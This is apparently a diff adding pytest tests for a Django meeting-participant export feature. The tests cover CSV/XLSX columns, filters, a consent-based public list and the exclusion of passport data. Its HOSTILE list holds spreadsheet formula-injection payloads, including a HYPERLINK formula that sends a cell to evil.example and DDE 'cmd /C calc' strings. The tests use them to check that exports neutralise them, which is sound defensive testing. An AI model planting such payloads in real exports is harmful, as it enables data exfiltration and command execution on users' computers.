@@ -1,0 +1,272 @@
+import csv
+import datetime as dt
+import io
+
+import openpyxl
+import pytest
+from django.urls import reverse
+
+from participants.exports import neutralise
+from participants.importing import import_participants
+from participants.models import Participant, Registration, Role, Status
+from tests.factories import MeetingFactory, ParticipantFactory, UserFactory
+
+pytestmark = pytest.mark.django_db
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.fixture
+def meeting():
+    return MeetingFactory(slug="accra-2009")
+
+
+@pytest.fixture
+def organiser_client(client, meeting):
+    user = UserFactory()
+    meeting.organisers.add(user)
+    client.force_login(user)
+    return client
+
+
+def register(participant, *, listed: bool) -> None:
+    Registration.objects.create(
+        participant=participant,
+        passport_name=participant.full_name,
+        nationality="GH",
+        date_of_birth=dt.date(1970, 5, 17),
+        passport_number="G1234567",
+        passport_issuing_country="GH",
+        passport_expires_on=dt.date(2015, 1, 1),
+        emergency_contact_name="Kwame",
+        emergency_contact_phone="+233 20 000 0000",
+        consent_listed=listed,
+        completed_at=dt.datetime(2009, 10, 20, tzinfo=dt.UTC),
+    )
+    participant.status = Status.REGISTERED
+    participant.save()
+
+
+def read_csv(content: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
+
+
+def read_xlsx(content: bytes) -> list[list[object]]:
+    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
+    return [[cell.value for cell in row] for row in sheet.iter_rows()]
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+def test_neutralise_prefixes_an_apostrophe(value):
+    assert neutralise(value) == "'" + value
+
+
+@pytest.mark.parametrize("value", ["Ama", "O'Neil", "", 5, None, "a=b"])
+def test_neutralise_leaves_ordinary_cells(value):
+    assert neutralise(value) == value
+
+
+def test_organiser_csv_has_columns_status_and_local_dates(organiser_client, meeting):
+    ParticipantFactory(
+        meeting=meeting,
+        honorific="Dr.",
+        given_name="Ama",
+        family_name="Mensah",
+        email="ama@example.org",
+        organisation="University of Ghana",
+        job_title="Professor",
+        country="GH",
+        nationality="NG",
+        gender="female",
+        role=Role.EXPERT,
+        funded=True,
+        status=Status.REGISTERED,
+        invited_at=dt.datetime(2009, 10, 1, 14, 0, tzinfo=dt.UTC),
+        responded_at=dt.datetime(2009, 10, 3, 9, 30, tzinfo=dt.UTC),
+        registered_at=dt.datetime(2009, 10, 5, 23, 15, tzinfo=dt.UTC),
+    )
+
+    response = organiser_client.get(reverse("participants:export_csv", args=[meeting.slug]))
+
+    assert response["Content-Disposition"] == 'attachment; filename="accra-2009-participants.csv"'
+    assert read_csv(response.content) == [
+        [
+            "Honorific",
+            "Given name",
+            "Family name",
+            "Email",
+            "Organisation",
+            "Job title",
+            "Country",
+            "Nationality",
+            "Gender",
+            "Role",
+            "Funded",
+            "Status",
+            "Invited at (Africa/Accra (GMT))",
+            "Responded at (Africa/Accra (GMT))",
+            "Registered at (Africa/Accra (GMT))",
+        ],
+        [
+            "Dr.",
+            "Ama",
+            "Mensah",
+            "ama@example.org",
+            "University of Ghana",
+            "Professor",
+            "Ghana",
+            "Nigeria",
+            "Female",
+            "Expert",
+            "yes",
+            "Registered",
+            "2009-10-01 14:00",
+            "2009-10-03 09:30",
+            "2009-10-05 23:15",
+        ],
+    ]
+
+
+def test_organiser_export_follows_the_tracker_filters(organiser_client, meeting):
+    ParticipantFactory(meeting=meeting, email="a@example.org", role=Role.EXPERT)
+    ParticipantFactory(meeting=meeting, email="b@example.org", role=Role.OBSERVER)
+
+    response = organiser_client.get(
+        reverse("participants:export_csv", args=[meeting.slug]) + "?role=observer"
+    )
+
+    assert [row[3] for row in read_csv(response.content)[1:]] == ["b@example.org"]
+
+
+def test_organiser_export_can_be_imported_again_unchanged(organiser_client, meeting):
+    ParticipantFactory.create_batch(3, meeting=meeting, country="KE", region="africa")
+    content = organiser_client.get(reverse("participants:export_xlsx", args=[meeting.slug])).content
+
+    summary = import_participants(meeting=meeting, data=content, filename="export.xlsx")
+
+    assert (summary.created, summary.updated, summary.unchanged) == (0, 0, 3)
+
+
+def test_csv_export_neutralises_formulas(organiser_client, meeting):
+    for number, value in enumerate(HOSTILE):
+        ParticipantFactory(
+            meeting=meeting, given_name=value, organisation=value, family_name=f"F{number}"
+        )
+
+    rows = read_csv(
+        organiser_client.get(reverse("participants:export_csv", args=[meeting.slug])).content
+    )
+
+    assert [row[1] for row in rows[1:]] == ["'" + value for value in HOSTILE]
+    assert [row[4] for row in rows[1:]] == ["'" + value for value in HOSTILE]
+
+
+def test_xlsx_export_stores_formulas_as_text(organiser_client, meeting):
+    for number, value in enumerate(HOSTILE):
+        ParticipantFactory(meeting=meeting, given_name=value, family_name=f"F{number}")
+
+    response = organiser_client.get(reverse("participants:export_xlsx", args=[meeting.slug]))
+
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
+    assert [cell.data_type for cell in cells] == ["s"] * len(HOSTILE)
+    assert [cell.value for cell in cells] == ["'" + value for value in HOSTILE]
+
+
+def test_xlsx_export_strips_control_characters_before_neutralising(organiser_client, meeting):
+    ParticipantFactory(meeting=meeting, given_name="\x01=1+1")
+
+    response = organiser_client.get(reverse("participants:export_xlsx", args=[meeting.slug]))
+
+    assert read_xlsx(response.content)[1][1] == "'=1+1"
+
+
+def test_exports_never_carry_passport_or_birth_date(organiser_client, meeting):
+    register(ParticipantFactory(meeting=meeting), listed=True)
+
+    csv_text = organiser_client.get(
+        reverse("participants:export_csv", args=[meeting.slug])
+    ).content.decode()
+    xlsx_cells = str(
+        read_xlsx(
+            organiser_client.get(reverse("participants:export_xlsx", args=[meeting.slug])).content
+        )
+    )
+    public_text = organiser_client.get(
+        reverse("participants:public_list_csv", args=[meeting.slug])
+    ).content.decode()
+
+    for text in (csv_text, xlsx_cells, public_text):
+        assert "G1234567" not in text
+        assert "1970" not in text
+
+
+def test_public_list_shows_only_consenting_registered_participants(client, meeting):
+    listed = ParticipantFactory(
+        meeting=meeting,
+        honorific="Dr.",
+        given_name="Ama",
+        family_name="Mensah",
+        organisation="University of Ghana",
+        country="GH",
+        email="ama@example.org",
+    )
+    register(listed, listed=True)
+    register(ParticipantFactory(meeting=meeting, given_name="Hidden"), listed=False)
+    ParticipantFactory(meeting=meeting, given_name="Invited", status=Status.INVITED)
+
+    page = client.get(reverse("participants:public_list", args=[meeting.slug]))
+    rows = read_csv(
+        client.get(reverse("participants:public_list_csv", args=[meeting.slug])).content
+    )
+
+    assert rows == [
+        ["Name", "Organisation", "Country", "Role"],
+        ["Dr. Ama Mensah", "University of Ghana", "Ghana", "Expert"],
+    ]
+    html = page.content.decode()
+    assert "Dr. Ama Mensah" in html
+    assert "Hidden" not in html
+    assert "Invited" not in html
+    assert "ama@example.org" not in html
+
+
+def test_public_csv_neutralises_formulas(client, meeting):
+    register(
+        ParticipantFactory(meeting=meeting, given_name='=HYPERLINK("x")', honorific=""), listed=True
+    )
+
+    rows = read_csv(
+        client.get(reverse("participants:public_list_csv", args=[meeting.slug])).content
+    )
+
+    assert rows[1][0].startswith("'=HYPERLINK")
+
+
+def test_public_list_of_unpublished_meeting_is_not_found(client):
+    meeting = MeetingFactory(is_published=False)
+
+    assert client.get(reverse("participants:public_list", args=[meeting.slug])).status_code == 404
+
+
+def test_organiser_export_query_count_does_not_grow(
+    organiser_client, meeting, django_assert_num_queries
+):
+    ParticipantFactory.create_batch(2, meeting=meeting)
+    url = reverse("participants:export_csv", args=[meeting.slug])
+    with django_assert_num_queries(5) as small:
+        organiser_client.get(url)
+    ParticipantFactory.create_batch(30, meeting=meeting)
+
+    with django_assert_num_queries(len(small.captured_queries)):
+        response = organiser_client.get(url)
+
+    assert len(read_csv(response.content)) == 33
+    assert Participant.objects.count() == 32
